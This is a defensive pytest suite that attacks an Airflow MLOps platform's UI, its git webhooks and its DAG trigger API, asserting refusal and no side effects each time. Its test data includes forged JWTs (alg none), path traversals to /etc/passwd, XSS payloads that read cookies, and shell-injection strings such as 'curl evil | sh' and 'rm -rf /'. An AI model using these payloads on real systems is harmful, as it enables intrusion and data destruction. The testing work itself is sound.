"""Attacks on the services an Airflow API server exposes: the MLOps view, the git webhooks and
the REST trigger of the training DAG, against one real platform (``attack_target``).

Every case asserts the refusal (status and message) and the absence of its side effect: no
pipeline data disclosed, no file served from outside the reports folder, no DAG run created
(counted through the REST API), no file written under the data root, and no secret in the API
server's log.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import hmac
import http.client
import json
import socket
import uuid
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import jwt
import pytest
from live_target import (
    CANARY,
    GITHUB_SECRET,
    GITLAB_TOKEN,
    GOOD_WINDOW,
    OUTSIDE_WINDOWS,
    PIPELINE,
    REPORT_MARKER,
    TRAINING_DAG,
    WEBHOOK_MAX_BODY,
    AttackTarget,
)

from airmlops.webhooks.verify import github_signature

pytestmark = pytest.mark.integration

UI = "/mlops-ui"
SPEC_DESCRIPTION_WORDS = "Predicts whether a subscriber churns"
"""From the pipeline's description: present in an answer only if pipeline data leaked."""


# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------


def raw_get(target: AttackTarget, path: str, headers: dict[str, str] | None = None
            ) -> tuple[int, dict[str, str], str]:
    """GET ``path`` byte for byte (no client-side normalisation of ``..`` or ``%2e``)."""
    host, port = target.base_url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        connection.request("GET", path, headers=headers or {})
        response = connection.getresponse()
        body = response.read().decode("utf-8", errors="replace")
        return response.status, {k.lower(): v for k, v in response.getheaders()}, body
    finally:
        connection.close()


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def claims_of(token: str) -> dict[str, Any]:
    return jwt.decode(token, options={"verify_signature": False})


def _now() -> int:
    return int(dt.datetime.now(dt.UTC).timestamp())


def _forged(target: AttackTarget, case: str) -> str:
    """A token that differs from a valid one in exactly what ``case`` names."""
    real = target.client.token
    claims = claims_of(real)
    key = target.jwt_secret
    if case == "garbage":
        return "not-a-jwt"
    if case == "signed with another key":
        return jwt.encode(claims, "another-key-" + uuid.uuid4().hex, algorithm="HS512")
    if case == "alg none":
        return jwt.encode(claims, None, algorithm="none")
    if case == "wrong algorithm (HS256, right key)":
        return jwt.encode(claims, key, algorithm="HS256")
    if case == "expired":
        return jwt.encode({**claims, "iat": _now() - 7200, "nbf": _now() - 7200,
                           "exp": _now() - 3600}, key, algorithm="HS512")
    if case == "not yet valid":
        return jwt.encode({**claims, "nbf": _now() + 3600}, key, algorithm="HS512")
    if case == "wrong audience":
        return jwt.encode({**claims, "aud": "another-service"}, key, algorithm="HS512")
    if case == "tampered claims, original signature":
        header, _, signature = real.split(".")
        body = jwt.utils.base64url_encode(
            json.dumps({**claims, "sub": "mallory"}).encode()).decode()
        return f"{header}.{body}.{signature}"
    raise AssertionError(case)


FORGED_TOKENS = ["garbage", "signed with another key", "alg none",
                 "wrong algorithm (HS256, right key)", "expired", "not yet valid",
                 "wrong audience", "tampered claims, original signature"]


# --------------------------------------------------------------------------------------------
# The MLOps view
# --------------------------------------------------------------------------------------------


def test_control_a_valid_token_sees_the_pipeline_and_its_report(attack_target, raw_http):
    """The positive control: what the attacks below must not obtain is really there."""
    auth = bearer(attack_target.client.token)
    listing = raw_http.get(f"{attack_target.base_url}{UI}/api/pipelines", headers=auth)
    assert listing.status_code == 200, listing.text
    assert SPEC_DESCRIPTION_WORDS in listing.text
    report = raw_http.get(f"{attack_target.base_url}{UI}/pipelines/{PIPELINE}/windows/"
                          f"{GOOD_WINDOW}/report", headers=auth)
    assert report.status_code == 200 and REPORT_MARKER in report.text
    assert report.headers["content-security-policy"].startswith("sandbox")


@pytest.mark.parametrize("case", FORGED_TOKENS)
def test_view_refuses_a_forged_token(attack_target, raw_http, case):
    token = _forged(attack_target, case)
    answer = raw_http.get(f"{attack_target.base_url}{UI}/api/pipelines", headers=bearer(token))
    assert answer.status_code == 401, answer.text
    assert answer.json()["detail"].startswith("the Airflow token is not valid")
    assert answer.headers["www-authenticate"] == "Bearer"
    assert SPEC_DESCRIPTION_WORDS not in answer.text


@pytest.mark.parametrize("case", ["signed with another key", "alg none", "expired"])
def test_view_refuses_a_forged_token_in_the_ui_cookie(attack_target, raw_http, case):
    answer = raw_http.get(f"{attack_target.base_url}{UI}/api/pipelines/{PIPELINE}",
                          cookies={"_token": _forged(attack_target, case)})
    assert answer.status_code == 401, answer.text
    assert "not valid" in answer.json()["detail"]
    assert SPEC_DESCRIPTION_WORDS not in answer.text


@pytest.mark.parametrize("path", [
    f"/api/pipelines/{PIPELINE}",
    f"/pipelines/{PIPELINE}/windows/{GOOD_WINDOW}/report",
    "/?pipeline=" + PIPELINE,
], ids=["pipeline json", "window report", "page (no html accept)"])
def test_view_refuses_requests_without_a_token(attack_target, raw_http, path):
    answer = raw_http.get(f"{attack_target.base_url}{UI}{path}")
    assert answer.status_code == 401, answer.text
    assert answer.json()["detail"] == "no Airflow token (log in to Airflow first)"
    assert REPORT_MARKER not in answer.text and SPEC_DESCRIPTION_WORDS not in answer.text


TRAVERSALS = {
    "dot-dot segments in the window": f"/pipelines/{PIPELINE}/windows/../../../../etc/passwd/"
                                      "report",
    "encoded slash in the window": f"/pipelines/{PIPELINE}/windows/..%2F..%2F..%2Fcanary.html/"
                                   "report",
    "encoded dots and slashes": f"/pipelines/{PIPELINE}/windows/%2e%2e%2f%2e%2e%2fcanary.html/"
                                "report",
    "double-encoded dots": f"/pipelines/{PIPELINE}/windows/%252e%252e%252fcanary.html/report",
    "absolute path as window": f"/pipelines/{PIPELINE}/windows/%2Fetc%2Fpasswd/report",
    "NUL byte in the window": f"/pipelines/{PIPELINE}/windows/{GOOD_WINDOW}%00.html/report",
    "dot-dot as pipeline name": f"/pipelines/..%2F..%2Fdata/windows/{GOOD_WINDOW}/report",
    "backslashes": f"/pipelines/{PIPELINE}/windows/..%5C..%5Ccanary.html/report",
}


@pytest.mark.parametrize("path", list(TRAVERSALS.values()), ids=list(TRAVERSALS))
def test_report_paths_cannot_leave_the_reports_folder(attack_target, path):
    status, headers, body = raw_get(attack_target, UI + path, bearer(attack_target.client.token))
    assert status == 404, body
    assert headers["content-type"].startswith("application/json"), headers
    assert CANARY not in body and "root:" not in body and REPORT_MARKER not in body


@pytest.mark.parametrize("window", list(OUTSIDE_WINDOWS.values()), ids=list(OUTSIDE_WINDOWS))
def test_a_recorded_report_path_outside_the_root_is_not_served(attack_target, raw_http, window):
    answer = raw_http.get(f"{attack_target.base_url}{UI}/pipelines/{PIPELINE}/windows/{window}/"
                          "report", headers=bearer(attack_target.client.token))
    assert answer.status_code == 404, answer.text
    assert answer.json() == {"detail": "no report for this window"}
    assert CANARY not in answer.text


@pytest.mark.parametrize("name", ["churn", "no_such_pipeline", "ATTACK_PROBE", "attack_probe_"])
def test_unknown_pipeline_names_answer_404(attack_target, raw_http, name):
    answer = raw_http.get(f"{attack_target.base_url}{UI}/api/pipelines/{name}",
                          headers=bearer(attack_target.client.token))
    assert answer.status_code == 404, answer.text
    assert answer.json() == {"detail": f"no pipeline {name!r}"}
    assert SPEC_DESCRIPTION_WORDS not in answer.text


XSS = {
    "script tag as pipeline": ("pipeline", "<script>alert(1)</script>"),
    "attribute breakout as dag_id": ("dag_id", '"><img src=x onerror=alert(1)>'),
    "closing tags and svg onload": ("pipeline", "</p></main><svg/onload=alert(document.cookie)>"),
    "javascript url": ("pipeline", "javascript:alert(1)//'\"`"),
}


@pytest.mark.parametrize("param,payload", list(XSS.values()), ids=list(XSS))
def test_reflected_names_are_escaped_in_the_page(attack_target, raw_http, param, payload):
    answer = raw_http.get(f"{attack_target.base_url}{UI}/", params={param: payload},
                          headers={**bearer(attack_target.client.token), "Accept": "text/html"})
    assert answer.status_code == 200, answer.text
    assert payload not in answer.text
    assert "&lt;" in answer.text or "&#x27;" in answer.text or "&quot;" in answer.text
    policy = answer.headers["content-security-policy"]
    assert "script-src 'nonce-" in policy and "unsafe-inline" not in policy


def test_an_unknown_name_is_answered_as_json_never_as_html(attack_target, raw_http):
    payload = "<img src=x onerror=alert(1)>"
    answer = raw_http.get(f"{attack_target.base_url}{UI}/api/pipelines/{quote(payload, safe='')}",
                          headers=bearer(attack_target.client.token))
    assert answer.status_code == 404
    assert answer.json() == {"detail": f"no pipeline {payload!r}"}
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("method,path", [
    ("POST", "/"), ("PUT", "/api/pipelines"), ("DELETE", f"/api/pipelines/{PIPELINE}"),
    ("PATCH", f"/pipelines/{PIPELINE}/windows/{GOOD_WINDOW}/report"),
], ids=["POST page", "PUT pipelines", "DELETE pipeline", "PATCH report"])
def test_cross_site_state_changes_are_not_accepted(attack_target, raw_http, method, path):
    """A forged cross-site form carries the victim's cookie: the view has no state-changing
    route, so every such method is refused and nothing is triggered."""
    before = attack_target.run_count()
    answer = raw_http.request(
        method, f"{attack_target.base_url}{UI}{path}",
        cookies={"_token": attack_target.client.token},
        headers={"Origin": "http://evil.example",
                 "Content-Type": "application/x-www-form-urlencoded"},
        content=b"dag_id=attack_probe_training&conf=%7B%7D")
    assert answer.status_code == 405, answer.text
    assert answer.json() == {"detail": "Method Not Allowed"}
    assert attack_target.run_count() == before


def _raw_request(target: AttackTarget, request: bytes) -> bytes:
    """Send ``request`` as is and return the status line and headers of the answer."""
    host, port = target.base_url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(request)
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    return answer


@pytest.mark.parametrize("size", [100_000, 1_000_000], ids=["100 KB query", "1 MB query"])
def test_an_oversized_query_string_is_refused(attack_target, size):
    token = attack_target.client.token
    request = (f"GET {UI}/?pipeline={'a' * size} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
               f"Accept: text/html\r\nAuthorization: Bearer {token}\r\n"
               "Connection: close\r\n\r\n").encode()
    answer = _raw_request(attack_target, request)
    status_line = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    assert status_line.split(" ")[1] in {"400", "414", "431"}, status_line


# --------------------------------------------------------------------------------------------
# Webhooks
# --------------------------------------------------------------------------------------------


def new_sha() -> str:
    return hashlib.sha1(uuid.uuid4().bytes).hexdigest()


def github_push(sha: str | None = None, ref: str = "refs/heads/main") -> dict[str, Any]:
    """A GitHub push of one commit that changes pipeline code."""
    sha = sha or new_sha()
    commit = {"id": sha, "message": "Tune", "added": [], "removed": [],
              "modified": ["include/airmlops/training/model.py"]}
    return {"ref": ref, "before": new_sha(), "after": sha, "deleted": False,
            "repository": {"full_name": "acme/churn-platform"},
            "commits": [commit], "head_commit": commit}


def github_headers(body: bytes, *, delivery: str | None = None, event: str = "push",
                   signature: str | None = None) -> dict[str, str]:
    return {"Content-Type": "application/json", "X-GitHub-Event": event,
            "X-GitHub-Delivery": delivery or str(uuid.uuid4()),
            "X-Hub-Signature-256": signature if signature is not None
            else github_signature(GITHUB_SECRET, body)}


Delivery = tuple[bytes, dict[str, str]]


def _signed(payload: Any, **kwargs: Any) -> Delivery:
    body = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    return body, github_headers(body, **kwargs)


def _with_signature(make_signature: Callable[[bytes], str]) -> Callable[[], Delivery]:
    def make() -> Delivery:
        body = json.dumps(github_push()).encode()
        return body, github_headers(body, signature=make_signature(body))
    return make


def _hmac(algorithm: str, body: bytes) -> str:
    return hmac.new(GITHUB_SECRET.encode(), body, algorithm).hexdigest()


def _signature_of_other_body() -> Delivery:
    body = json.dumps(github_push()).encode()
    return body + b"\n", github_headers(body)


def _content_type(value: str) -> Callable[[], Delivery]:
    def make() -> Delivery:
        body, headers = _signed(github_push())
        return body, {**headers, "Content-Type": value}
    return make


def _delivery_id(value: str) -> Callable[[], Delivery]:
    return lambda: _signed(github_push(), delivery=value)


def _commit(value: str) -> Callable[[], Delivery]:
    def make() -> Delivery:
        payload = github_push()
        payload["after"] = value
        return _signed(payload)
    return make


GITHUB_REFUSALS: dict[str, tuple[Callable[[], Delivery], int, str]] = {
    "truncated signature": (_with_signature(lambda b: github_signature(GITHUB_SECRET, b)[:-2]),
                            401, "signature does not match"),
    "empty signature": (_with_signature(lambda b: ""), 401, "signature does not match"),
    "bare hex without sha256=": (_with_signature(lambda b: _hmac("sha256", b)), 401,
                                 "signature does not match"),
    "sha512 hmac": (_with_signature(lambda b: "sha512=" + _hmac("sha512", b)), 401,
                    "signature does not match"),
    "plain sha256 of secret and body": (_with_signature(lambda b: "sha256=" + hashlib.sha256(
        GITHUB_SECRET.encode() + b).hexdigest()), 401, "signature does not match"),
    "signature of another body": (_signature_of_other_body, 401, "signature does not match"),
    "unsigned ping": (lambda: (b"{}", {"Content-Type": "application/json",
                                       "X-GitHub-Event": "ping",
                                       "X-GitHub-Delivery": str(uuid.uuid4())}),
                      401, "missing X-Hub-Signature-256 header"),
    "ref with a newline": (lambda: _signed(github_push(ref="refs/heads/main\nX-Injected: 1")),
                           400, "ref: not a valid branch name"),
    "ref with a space and a semicolon": (
        lambda: _signed(github_push(ref="refs/heads/main;touch /tmp/pwned")), 400,
        "ref: not a valid branch name"),
    "ref with ../": (lambda: _signed(github_push(ref="refs/heads/../../etc/passwd")), 400,
                     "ref: not a valid branch name"),
    "ref with a NUL byte": (lambda: _signed(github_push(ref="refs/heads/main\x00")), 400,
                            "ref: not a valid branch name"),
    "commit with shell metacharacters": (_commit("$(touch /tmp/pwned); `id`"), 400,
                                         "after: expected a full commit hash"),
    "commit with a newline": (_commit(new_sha() + "\nrm -rf /"), 400,
                              "after: expected a full commit hash"),
    "commit as a path": (_commit("../../../../etc/passwd"), 400,
                         "after: expected a full commit hash"),
    "delivery id with ../": (_delivery_id("../../x"), 400,
                             "X-GitHub-Delivery must be 1-100 letters, digits or dashes"),
    "delivery id with a space and quote": (_delivery_id("a b'c"), 400,
                                           "X-GitHub-Delivery must be 1-100 letters"),
    "delivery id too long": (_delivery_id("a" * 101), 400,
                             "X-GitHub-Delivery must be 1-100 letters"),
    "non-JSON body": (lambda: _signed(b"ref=refs/heads/main&after=abc"), 400,
                      "body is not valid JSON"),
    "invalid UTF-8": (lambda: _signed(b'{"ref": "\xff\xfe"}'), 400, "body is not valid JSON"),
    "JSON array": (lambda: _signed([github_push()]), 400, "body is not a JSON object"),
    "deeply nested JSON": (lambda: _signed(b'{"a":' * 3000 + b"1" + b"}" * 3000), 400,
                           "body is not valid JSON"),
    "form-encoded content type": (_content_type("application/x-www-form-urlencoded"), 415,
                                  "application/json"),
    "text/plain content type": (_content_type("text/plain"), 415, "application/json"),
    "xml content type": (_content_type("application/xml"), 415, "application/json"),
    "event name with markup": (lambda: _signed(github_push(), event="<script>push"), 200,
                               "(unrecognised)"),
}


@pytest.mark.parametrize("case", list(GITHUB_REFUSALS))
def test_github_refusals_create_no_run(attack_target, raw_http, case):
    make, status, words = GITHUB_REFUSALS[case]
    body, headers = make()
    before = attack_target.run_count()
    answer = raw_http.post(f"{attack_target.base_url}/webhooks/github", content=body,
                           headers=headers)
    assert answer.status_code == status, answer.text
    assert answer.json()["status"] == ("ignored" if status == 200 else "rejected")
    assert words in answer.json()["reason"]
    assert answer.json()["runs"] == []
    assert attack_target.run_count() == before


@pytest.mark.parametrize("ref", ["refs/heads/main;reboot", "refs/heads/$(reboot)",
                                 "refs/heads/main-evil", "refs/heads/Main"],
                         ids=["semicolon", "command substitution", "prefix of main",
                              "other case"])
def test_github_push_to_a_branch_not_allowed_creates_no_run(attack_target, raw_http, ref):
    """An authentic push to another branch is answered 200 "ignored" (GitHub would otherwise
    report a failed delivery) and starts nothing."""
    body, headers = _signed(github_push(ref=ref))
    before = attack_target.run_count()
    answer = raw_http.post(f"{attack_target.base_url}/webhooks/github", content=body,
                           headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.json()["status"] == "ignored"
    assert "is not in MLOPS_WEBHOOK_BRANCHES" in answer.json()["reason"]
    assert attack_target.run_count() == before


def test_github_streamed_oversized_body_is_refused(attack_target, raw_http):
    def chunks():
        for _ in range(8):
            yield b" " * (WEBHOOK_MAX_BODY // 4)

    before = attack_target.run_count()
    answer = raw_http.post(f"{attack_target.base_url}/webhooks/github", content=chunks(),
                           headers=github_headers(b"", signature="sha256=" + "0" * 64))
    assert answer.status_code == 413, answer.text
    assert answer.json()["reason"] == f"body larger than {WEBHOOK_MAX_BODY} bytes"
    assert attack_target.run_count() == before


def test_github_replayed_delivery_id_with_a_new_commit_creates_no_run(attack_target, raw_http):
    delivery, first_sha = str(uuid.uuid4()), new_sha()
    url = f"{attack_target.base_url}/webhooks/github"
    body, headers = _signed(github_push(first_sha), delivery=delivery)
    assert raw_http.post(url, content=body, headers=headers).status_code == 202
    count = attack_target.run_count()

    body, headers = _signed(github_push(new_sha()), delivery=delivery)
    replay = raw_http.post(url, content=body, headers=headers)
    assert replay.status_code == 200, replay.text
    assert replay.json()["status"] == "duplicate"
    assert attack_target.run_count() == count
    run = attack_target.client.run(TRAINING_DAG, f"webhook__github__{delivery}")
    assert run["conf"]["git_commit"] == first_sha


def gitlab_push(sha: str | None = None, ref: str = "refs/heads/main",
                kind: str = "push") -> dict[str, Any]:
    sha = sha or new_sha()
    return {"object_kind": kind, "ref": ref, "before": new_sha(), "after": sha,
            "checkout_sha": sha, "project": {"path_with_namespace": "ml/churn"},
            "commits": [{"id": sha, "added": [], "removed": [],
                         "modified": ["include/pipelines/x.yaml"]}],
            "total_commits_count": 1}


def gitlab_headers(token: str | None = GITLAB_TOKEN, key: str | None = None) -> dict[str, str]:
    headers = {"Content-Type": "application/json", "X-Gitlab-Event": "Push Hook",
               "Idempotency-Key": key or str(uuid.uuid4())}
    if token is not None:
        headers["X-Gitlab-Token"] = token
    return headers


GITLAB_REFUSALS: dict[str, tuple[dict[str, Any], dict[str, str], int, str]] = {
    "missing token": (gitlab_push(), gitlab_headers(None), 401, "missing X-Gitlab-Token header"),
    "wrong token": (gitlab_push(), gitlab_headers("guess"), 401, "token does not match"),
    "truncated token": (gitlab_push(), gitlab_headers(GITLAB_TOKEN[:-1]), 401,
                        "token does not match"),
    "token with a suffix": (gitlab_push(), gitlab_headers(GITLAB_TOKEN + "x"), 401,
                            "token does not match"),
    "GitHub secret as token": (gitlab_push(), gitlab_headers(GITHUB_SECRET), 401,
                               "token does not match"),
    "ref with a newline": (gitlab_push(ref="refs/heads/main\nX: 1"), gitlab_headers(), 400,
                           "ref: not a valid branch name"),
    "checkout_sha with shell metacharacters": (
        {**gitlab_push(), "checkout_sha": "abc; curl evil | sh"}, gitlab_headers(), 400,
        "checkout_sha: expected a full commit hash"),
    "object kind not push": (gitlab_push(kind="merge_request"), gitlab_headers(), 400,
                             "object_kind: expected 'push'"),
    "idempotency key with ../": (gitlab_push(), gitlab_headers(key="../../etc"), 400,
                                 "Idempotency-Key must be 1-100 letters"),
}


@pytest.mark.parametrize("case", list(GITLAB_REFUSALS))
def test_gitlab_refusals_create_no_run(attack_target, raw_http, case):
    payload, headers, status, words = GITLAB_REFUSALS[case]
    before = attack_target.run_count()
    answer = raw_http.post(f"{attack_target.base_url}/webhooks/gitlab",
                           content=json.dumps(payload).encode(), headers=headers)
    assert answer.status_code == status, answer.text
    assert answer.json()["status"] == "rejected"
    assert words in answer.json()["reason"]
    assert attack_target.run_count() == before


def test_gitlab_replayed_idempotency_key_creates_no_run(attack_target, raw_http):
    key, first_sha = str(uuid.uuid4()), new_sha()
    url = f"{attack_target.base_url}/webhooks/gitlab"
    first = raw_http.post(url, json=gitlab_push(first_sha), headers=gitlab_headers(key=key))
    assert first.status_code == 202, first.text
    count = attack_target.run_count()
    replay = raw_http.post(url, json=gitlab_push(new_sha()), headers=gitlab_headers(key=key))
    assert replay.status_code == 200, replay.text
    assert replay.json()["status"] == "duplicate"
    assert attack_target.run_count() == count
    assert attack_target.client.run(TRAINING_DAG, f"webhook__gitlab__{key}"
                                    )["conf"]["git_commit"] == first_sha


# --------------------------------------------------------------------------------------------
# Manual trigger conf through the REST API
# --------------------------------------------------------------------------------------------

BAD_CONF: dict[str, tuple[dict[str, Any], str]] = {
    "git_commit with shell metacharacters": ({"git_commit": "$(id)"}, "git_commit"),
    "git_commit as a path": ({"git_commit": "../../etc/passwd"}, "git_commit"),
    "git_commit too short": ({"git_commit": "abc12"}, "git_commit"),
    "git_commit as a number": ({"git_commit": 1234567}, "git_commit"),
    "scenario not in the enum": ({"scenario": "wipe_everything"}, "scenario"),
    "scenario with shell metacharacters": ({"scenario": "stable; rm -rf /"}, "scenario"),
    "data_end not ISO": ({"data_end": "yesterday"}, "data_end"),
    "data_end without an offset": ({"data_end": "2026-05-01T00:00:00"}, "data_end"),
    "scenario_start not a date": ({"scenario_start": "01/02/2026"}, "scenario_start"),
    "scenario_start impossible date": ({"scenario_start": "2026-13-45"}, "scenario_start"),
    "trigger_reason too long": ({"trigger_reason": "x" * 501}, "trigger_reason"),
    "git_ref too long": ({"git_ref": "refs/heads/" + "a" * 250}, "git_ref"),
    "git_repository as a list": ({"git_repository": ["acme/x"]}, "git_repository"),
    "full_history as text": ({"full_history": "yes"}, "full_history"),
    "skip_deploy as a number": ({"skip_deploy": 1}, "skip_deploy"),
}


@pytest.mark.parametrize("case", list(BAD_CONF))
def test_trigger_conf_that_violates_the_params_is_refused(attack_target, case):
    """Airflow 3.3 validates the conf against the DAG's Params at trigger time: 400, no run."""
    conf, param = BAD_CONF[case]
    before, files = attack_target.run_count(), attack_target.data_files()
    answer = attack_target.client.api("POST", f"/dags/{TRAINING_DAG}/dagRuns",
                                      json={"logical_date": None, "conf": conf})
    assert answer.status_code == 400, answer.text
    assert answer.json()["detail"].startswith(f"Invalid input for param {param}:")
    assert attack_target.run_count() == before
    assert attack_target.data_files() == files


@pytest.mark.parametrize("case", ["no token", "signed with another key", "alg none", "expired"])
def test_trigger_without_a_valid_token_is_refused(attack_target, raw_http, case):
    headers = {} if case == "no token" else bearer(_forged(attack_target, case))
    before = attack_target.run_count()
    answer = raw_http.post(f"{attack_target.base_url}/api/v2/dags/{TRAINING_DAG}/dagRuns",
                           json={"logical_date": None, "conf": {}}, headers=headers)
    assert answer.status_code in (401, 403), answer.text
    assert answer.json()["detail"] in ("Not authenticated", "Invalid JWT token", "Forbidden",
                                       "Token Expired")
    assert attack_target.run_count() == before


def test_no_secret_or_token_reaches_the_api_server_log(attack_target):
    """After every attack above: the log holds neither the webhook secrets nor a JWT."""
    log = attack_target.server_log()
    assert "Webhook github delivery" in log  # the log is the one the webhooks write to
    assert GITHUB_SECRET not in log
    assert GITLAB_TOKEN not in log
    assert attack_target.jwt_secret not in log
    assert attack_target.client.token not in log
    assert attack_target.client.token.split(".")[2] not in log
